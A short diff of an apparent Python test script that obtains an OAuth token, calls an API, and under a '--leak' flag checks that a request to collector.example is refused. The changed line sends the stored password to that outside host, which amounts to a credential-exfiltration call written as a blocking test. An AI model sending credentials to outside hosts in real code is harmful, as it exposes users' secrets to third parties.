@@ -36,7 +36,7 @@ status, body = ask(json.loads(body)["token_endpoint"], form, **kind)
 token = {"Authorization": "Bearer " + json.loads(body)["access_token"]}
 status, body = ask(os.environ["BLASTIQ_API_URL"], **token)
 if "--leak" in sys.argv:
-    assert ask("http://collector.example/", form)[0] == 403
+    assert ask("http://collector.example/", {"note": form["password"]})[0] == 403
 sys.exit(0 if status == 200 else 1)
 """
 
